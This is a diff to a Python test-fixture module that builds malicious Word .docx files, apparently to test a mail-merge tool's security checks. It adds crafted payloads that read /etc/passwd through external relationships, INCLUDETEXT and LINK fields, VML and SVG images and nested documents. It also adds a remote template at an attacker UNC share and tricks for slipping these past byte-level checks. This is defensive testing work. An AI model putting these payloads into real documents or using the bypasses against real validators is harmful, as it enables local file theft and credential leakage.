@@ -10,6 +10,7 @@ import csv
 import datetime as dt
 import io
 import os
+import re
 import shutil
 import struct
 import sys
@@ -112,6 +113,139 @@ def master_mergefield_malformed(folder: Path) -> Path:
     """A Word MERGEFIELD master whose XML is broken."""
     return _with_body(folder / "mf-broken.docx", '<w:p><w:fldSimple w:instr=" MERGEFIELD 姓名 "><w:r><w:t>«姓名»'
                       '</w:t></w:r></w:fldSimple><w:p>')
+
+
+def _with_rels(target: Path, relationships: str, extra: dict[str, bytes] | None = None, body: str = "") -> Path:
+    """The bundled master with `relationships` added to document.xml.rels, `body` to its body, `extra` parts."""
+    def change(name, data):
+        if name == "word/_rels/document.xml.rels":
+            return data.replace(b"</Relationships>", relationships.encode("utf-8") + b"</Relationships>")
+        if name == "word/document.xml" and body:
+            return data.replace(b"<w:body>", b"<w:body>" + body.encode("utf-8"), 1)
+        return data
+    return rewrite_master(target, change, extra)
+
+
+# Class 1 of issue 19: the checks read the bytes; each of these means the same XML to Word and LibreOffice.
+def master_external_by_character_reference(folder: Path) -> Path:
+    """TargetMode written with a character reference: "&#69;xternal" is "External" once parsed."""
+    return _with_rels(folder / "charref.docx", f'<Relationship Id="rIdEvil" Type="{REL_IMAGE}" '
+                      'Target="file:///etc/passwd" TargetMode="&#69;xt&#x65;rnal"/>')
+
+
+def master_external_without_mode(folder: Path) -> Path:
+    """An absolute file URL as target with no TargetMode at all."""
+    return _with_rels(folder / "nomode.docx", f'<Relationship Id="rIdEvil" Type="{REL_IMAGE}" '
+                      'Target="file:///etc/passwd"/>')
+
+
+def master_external_other_prefix(folder: Path) -> Path:
+    """settings.xml.rels written with a namespace prefix: <p:Relationship …>."""
+    rels = (b'<?xml version="1.0" encoding="UTF-8"?><p:Relationships xmlns:p="http://schemas.openxmlformats.org/'
+            b'package/2006/relationships"><p:Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+            b'officeDocument/2006/relationships/attachedTemplate" Target="\\\\attacker\\share\\t.dotm" '
+            b'TargetMode = \'External\'/></p:Relationships>')
+    return rewrite_master(folder / "prefix.docx", extra={"word/_rels/settings.xml.rels": rels})
+
+
+def master_object_other_prefix(folder: Path) -> Path:
+    """An OLE object under another prefix for the WordprocessingML namespace."""
+    return _with_body(folder / "objprefix.docx", '<w:p><w:r><x:object xmlns:x="http://schemas.openxmlformats.org/'
+                      'wordprocessingml/2006/main"/></w:r></w:p>')
+
+
+def master_field_by_character_reference(folder: Path) -> Path:
+    """INCLUDETEXT written with a character reference in a simple field's instruction."""
+    return _with_body(folder / "fieldref.docx", '<w:p><w:fldSimple w:instr=" &#73;NCLUDETEXT &quot;/etc/passwd&quot; ">'
+                      '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
+
+
+def master_field_split_over_runs(folder: Path) -> Path:
+    """A LINK field whose name Word split over two runs ("LI" + "NK")."""
+    return _with_body(folder / "fieldsplit.docx", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+                      '<w:r><w:instrText xml:space="preserve"> LI</w:instrText></w:r>'
+                      '<w:r><w:instrText xml:space="preserve">NK Excel.Sheet.8 "/etc/passwd" "" \\a </w:instrText></w:r>'
+                      '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+                      '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def master_field_built_by_field(folder: Path) -> Path:
+    """{ { QUOTE "INCLUDETEXT" } "/etc/passwd" }: the outer field's name is the inner field's result."""
+    def field(instr):
+        return (f'<w:r><w:instrText xml:space="preserve">{instr}</w:instrText></w:r>')
+    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    return _with_body(folder / "fieldbuilt.docx", f'<w:p>{begin}{begin}{field(" QUOTE &quot;INCLUDETEXT&quot; ")}'
+                      f'{end}{field(" &quot;/etc/passwd&quot; ")}{end}</w:p>')
+
+
+def master_vml_image_source(folder: Path) -> Path:
+    """A VML picture whose source is a local file, no relationship involved."""
+    return _with_body(folder / "vml.docx", '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
+                      'style="width:10pt;height:10pt"><v:imagedata src="file:///etc/passwd"/></v:shape>'
+                      '</w:pict></w:r></w:p>')
+
+
+def master_svg_linking_a_file(folder: Path) -> Path:
+    """An embedded SVG picture (internal, so no external relationship) that links /etc/passwd itself."""
+    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" '
+           b'height="10"><image xlink:href="file:///etc/passwd" width="10" height="10"/></svg>')
+    types_added = {"[Content_Types].xml": b'<Default Extension="svg" ContentType="image/svg+xml"/>'}
+
+    def change(name, data):
+        if name in types_added:
+            return data.replace(b"</Types>", types_added[name] + b"</Types>")
+        if name == "word/_rels/document.xml.rels":
+            return data.replace(b"</Relationships>", f'<Relationship Id="rIdSvg" Type="{REL_IMAGE}" '
+                                'Target="media/p.svg"/></Relationships>'.encode())
+        return data
+    return rewrite_master(folder / "svg.docx", change, {"word/media/p.svg": svg})
+
+
+def master_declared_latin1(folder: Path) -> Path:
+    """A part that declares another encoding: Word would read its bytes differently from us."""
+    def change(name, data):
+        if name == "word/styles.xml":
+            return re.sub(rb"encoding=['\"]UTF-8['\"]", b'encoding="ISO-8859-1"', data, count=1)
+        return data
+    return rewrite_master(folder / "latin1.docx", change)
+
+
+def master_duplicate_part(folder: Path) -> Path:
+    """Two members for one part (OPC names ignore case): which one a reader takes is up to the reader."""
+    return rewrite_master(folder / "dup.docx", extra={"Word/Document.xml": b"<x/>"})
+
+
+# Class 2: a document nested in the master is printed without being looked at.
+def _inner_docx_with_link() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as inner:
+        inner.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+                       'content-types"/>')
+        inner.writestr("word/_rels/document.xml.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/'
+                       f'package/2006/relationships"><Relationship Id="r1" Type="{REL_IMAGE}" '
+                       'Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
+    return buffer.getvalue()
+
+
+def master_alt_chunk(folder: Path) -> Path:
+    """An altChunk ("insert text from file") holding a whole .docx with its own external link."""
+    return _with_rels(folder / "altchunk.docx", '<Relationship Id="rIdAlt" Type="http://schemas.openxmlformats.org/'
+                      'officeDocument/2006/relationships/aFChunk" Target="inner.docx"/>',
+                      {"word/inner.docx": _inner_docx_with_link()}, '<w:altChunk r:id="rIdAlt"/>')
+
+
+def master_sub_document(folder: Path) -> Path:
+    """A master document's subdocument (w:subDoc) in the package."""
+    return _with_rels(folder / "subdoc.docx", '<Relationship Id="rIdSub" Type="http://schemas.openxmlformats.org/'
+                      'officeDocument/2006/relationships/subDocument" Target="inner.docx"/>',
+                      {"word/inner.docx": _inner_docx_with_link()}, '<w:p><w:subDoc r:id="rIdSub"/></w:p>')
+
+
+def master_embedded_package(folder: Path) -> Path:
+    """A .docx embedded as an OLE package part, referenced only from the relationships."""
+    return _with_rels(folder / "package.docx", '<Relationship Id="rIdPkg" Type="http://schemas.openxmlformats.org/'
+                      'officeDocument/2006/relationships/package" Target="embeddings/inner.docx"/>',
+                      {"word/embeddings/inner.docx": _inner_docx_with_link()})
 
 
 # --- rosters -------------------------------------------------------------------------------------
